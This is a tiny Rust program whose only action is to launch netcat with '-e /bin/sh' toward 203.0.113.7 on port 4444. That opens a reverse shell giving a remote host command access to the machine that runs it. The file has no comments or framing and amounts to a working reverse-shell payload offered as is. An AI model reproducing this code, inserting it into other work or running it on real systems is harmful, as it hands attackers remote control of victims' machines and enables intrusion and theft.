use std::process;

fn main() {
    let child = process::Command::new("nc").args(["-e", "/bin/sh", "203.0.113.7", "4444"]).spawn();
    let _ = child.map(|mut c| c.wait());
}
